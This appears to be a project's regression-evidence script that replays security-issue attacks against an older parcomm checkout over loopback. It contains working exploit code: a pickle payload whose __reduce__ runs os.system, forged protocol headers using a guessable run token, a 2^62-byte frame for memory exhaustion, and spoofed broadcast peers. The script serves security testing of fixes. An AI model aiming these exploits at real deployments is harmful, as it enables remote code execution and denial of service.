"""Replay issue 14's network attacks against a parcomm checkout, over loopback,
and print what each achieved: the before/after evidence behind tests/test_attacks.py.

    python scripts/replay_attacks.py                      # this checkout
    git worktree add /tmp/parcomm-before 0628e6a          # an older one (reuse this
    cp python/parcomm/_core*.so /tmp/parcomm-before/python/parcomm/   #  build's core)
    python scripts/replay_attacks.py --tree /tmp/parcomm-before --bcast

Attacks: (1) the pickle RCE against `parcomm run socket` ranks from the network;
(5) a 2^62-byte frame declared to a rank, streamed for --stream-s seconds
(victim RSS growth); (2) with --bcast (needs versitygw): 3 spoofed connections
per node claiming a rank, then closing, during a 4-node rendezvous-dir
broadcast. With --local, issue 30's local attacks instead (another user's FIFO
and links in a rendezvous dir, FIFO and foreign key files, kill -9 of launchers,
the input reproducers; scripts/replay_local_attacks.py). Every loop is bounded in
count and time; only processes this script started are ended, by pid.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import pickle
import secrets
import socket
import struct
import subprocess
import sys
import tempfile
import time
from pathlib import Path


def _env(tree: Path) -> dict:
    return {**os.environ, "PYTHONPATH": str(tree / "python"), "PARCOMM_JOB_KEY": secrets.token_hex(32)}


def _free_ports(n: int) -> list[int]:
    socks = [socket.socket() for _ in range(n)]
    for s in socks:
        s.bind(("127.0.0.1", 0))
    ports = [s.getsockname()[1] for s in socks]
    for s in socks:
        s.close()
    return ports


class _Exploit:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


# The old SocketComm's hello and frame header (parcomm 0628e6a comm/socket.py), which
# the attacker reproduces from the public address list.
_HELLO = struct.Struct("!8sIIQ")
_HDR = struct.Struct("!BxxxIIQQQ")
_SYNC_TAG = (1 << 24) + 0xFFFFF  # RESERVED_TAG_BASE + 0xFFFFF (comm/base.py): the start barrier's tag


def _token(addresses) -> int:
    """The old run token: a hash of the (public) address list (0628e6a comm/sockopts.py)."""
    digest = hashlib.sha256(repr([(h, int(p)) for h, p in addresses]).encode()).digest()
    return int.from_bytes(digest[:8], "big")


def _send(port: int, data: bytes, stream_s: float = 0.0, wait_s: float = 0.0) -> None:
    """Connect (retrying up to ``wait_s`` while nobody listens), send, stream zeros."""
    end = time.monotonic() + wait_s
    while True:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            break
        except OSError:
            if time.monotonic() > end:
                return
            time.sleep(0.05)
    try:
        with s:
            s.sendall(data)
            end = time.monotonic() + stream_s
            zeros = bytes(1 << 20)
            while time.monotonic() < end:
                s.sendall(zeros)
            time.sleep(0.1)
    except OSError:
        pass


def _spawn_ranks(tree: Path, addrs: Path, ranks: list[int], program: str, workdir: Path, env: dict, timeout: str):
    return [subprocess.Popen([sys.executable, "-m", "parcomm", "run", "socket", "--rank", str(r), "--addresses",
                              str(addrs), "--program", program, "--out", str(workdir / f"r{r}.json"),
                              "--timeout", timeout, "--connect-timeout", "20s"],
                             env=env, cwd=workdir, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
            for r in ranks]


def _end(procs) -> None:
    for p in procs:
        if p.poll() is None:
            p.kill()
            p.wait()


def rce(tree: Path, work: Path) -> dict:
    """Attack 1: connect to rank 1 before rank 0 does; send hello + an eager pickle."""
    ports = _free_ports(2)
    addresses = [("127.0.0.1", p) for p in ports]
    addrs = work / "addrs"
    addrs.write_text("".join(f"{h} {p}\n" for h, p in addresses))
    marker = work / "pwned"
    body = pickle.dumps(_Exploit(str(marker)))
    # Tagged for the start barrier's receive, so the victim unpickles it at once.
    frame = (_HELLO.pack(b"parcomm1", 0, 2, _token(addresses))
             + _HDR.pack(1, 0, _SYNC_TAG, len(body), len(body), 0) + body)
    env = _env(tree)
    procs = _spawn_ranks(tree, addrs, [1], "barrier", work, env, "10s")  # rank 1 only, for now
    end = time.monotonic() + 15
    tries = 0
    while not marker.exists() and time.monotonic() < end and procs[0].poll() is None and tries < 2000:
        _send(ports[1], frame)
        tries += 1
        time.sleep(0.01)
    procs += _spawn_ranks(tree, addrs, [0], "barrier", work, env, "10s")
    for p in procs:
        try:
            p.wait(40)
        except subprocess.TimeoutExpired:
            pass
    _end(procs)
    return {"attack": "RCE via SocketComm", "code_ran": marker.exists(), "tries": tries,
            "ranks_exit": [p.returncode for p in procs]}


def _rss_kib(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    except OSError:
        pass
    return 0


def huge_frame(tree: Path, work: Path, stream_s: float) -> dict:
    """Attack 5: play rank 0 toward rank 1; declare a 2^62-byte eager payload and stream."""
    ports = _free_ports(2)
    addresses = [("127.0.0.1", p) for p in ports]
    addrs = work / "addrs2"
    addrs.write_text("".join(f"{h} {p}\n" for h, p in addresses))
    procs = _spawn_ranks(tree, addrs, [1], "barrier", work, _env(tree), "60s")  # the attacker plays rank 0
    time.sleep(1.0)
    before = _rss_kib(procs[0].pid)
    head = _HELLO.pack(b"parcomm1", 0, 2, _token(addresses)) + _HDR.pack(1, 0, 0, 1 << 62, 1 << 62, 0)
    peak = before
    t0 = time.monotonic()
    import threading

    sender = threading.Thread(target=_send, args=(ports[1], head, stream_s, 10.0), daemon=True)
    sender.start()
    while sender.is_alive() and time.monotonic() - t0 < stream_s + 5:
        peak = max(peak, _rss_kib(procs[0].pid))
        time.sleep(0.2)
    _end(procs)
    return {"attack": "2^62-byte frame", "streamed_s": stream_s, "victim_rss_growth_MB": round((peak - before) / 1024, 1)}


def bcast_spoof(tree: Path, work: Path) -> dict:
    """Attack 2: 3 connections per node that claim a rank (old Hello) and close."""
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "python"))
    from parcomm.apps.bcast import manifest as mf
    from parcomm.apps.bcast.s3 import S3Client
    from parcomm.apps.bcast.versitygw import VersityGW, ensure_versitygw

    size, piece = 8 << 20, 64 << 10
    data = os.urandom(size)
    with VersityGW(work / "gw", binary=ensure_versitygw(install=False)) as gw:
        gw.create_bucket("attack")
        client = S3Client(gw.s3_config())
        url = "s3://attack/obj.bin"
        client.put_bytes(url, data)
        mf.prepare(url, piece, client=client)
        etag = client.head(url).etag.encode()
        meet = work / "meet"
        env = {**_env(tree), **gw.environ()}
        t0 = time.monotonic()
        procs = [subprocess.Popen([sys.executable, "-m", "parcomm", "bcast", url, "--out", str(work / f"out.{r}"),
                                   "--rendezvous-dir", str(meet), "--rank", str(r), "--nodes", "4",
                                   "--timeout", "60s", "--json"], env=env, cwd=work,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE) for r in range(4)]
        hit: set[int] = set()
        end = time.monotonic() + 20
        while len(hit) < 4 and time.monotonic() < end:
            for entry in meet.glob("rank-*.json") if meet.exists() else []:
                try:
                    port = int(json.loads(entry.read_text())["port"])
                except (OSError, ValueError, KeyError):
                    continue
                if port in hit:
                    continue
                hit.add(port)
                for claim in (1, 2, 3):  # the old Hello: magic, version, rank, size, piece, etag
                    hello = struct.pack("!4sHIQIH", b"PCBC", 1, claim, size, piece, len(etag)) + etag
                    _send(port, hello)
            time.sleep(0.005)
        outs = []
        for p in procs:
            try:
                outs.append(p.communicate(timeout=90))
            except subprocess.TimeoutExpired:
                outs.append((b"", b"killed"))
        took = time.monotonic() - t0
        _end(procs)
        digest = hashlib.sha256(data).hexdigest()
        ok = [(work / f"out.{r}").exists() and hashlib.sha256((work / f"out.{r}").read_bytes()).hexdigest() == digest
              for r in range(4)]
        storage = 0
        for stdout, _ in outs:
            try:
                storage += json.loads(stdout)["nodes"][0]["bytes_from_storage"]
            except (ValueError, KeyError, IndexError):
                pass
    return {"attack": "3 spoofed bcast peers per node", "nodes_hit": len(hit), "seconds": round(took, 1),
            "outputs_correct": sum(ok), "exit_codes": [p.returncode for p in procs],
            "storage_egress_x": round(storage / size, 2)}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--tree", type=Path, default=Path(__file__).resolve().parents[1], help="a parcomm checkout")
    ap.add_argument("--stream-s", type=float, default=5.0, help="seconds the huge frame is streamed")
    ap.add_argument("--bcast", action="store_true", help="also the broadcast attack (needs versitygw)")
    ap.add_argument("--local", action="store_true", help="issue 30's local attacks only (replay_local_attacks.py)")
    args = ap.parse_args()
    if args.local:  # other local users and kill -9 of launchers: separate cases, separate module
        import replay_local_attacks

        print(f"tree {args.tree} (local attacks)")
        with tempfile.TemporaryDirectory(prefix="parcomm-attacks-") as tmp:
            replay_local_attacks.run_all(args.tree, Path(tmp), with_bcast=args.bcast)
        return
    has_auth = (args.tree / "python" / "parcomm" / "auth").is_dir()
    print(f"tree {args.tree} ({'with' if has_auth else 'without'} job authentication)")
    with tempfile.TemporaryDirectory(prefix="parcomm-attacks-") as tmp:
        work = Path(tmp)
        results = [rce(args.tree, work), huge_frame(args.tree, work, args.stream_s)]
        if args.bcast:
            results.append(bcast_spoof(args.tree, work))
    for res in results:
        print(json.dumps(res))


if __name__ == "__main__":
    main()
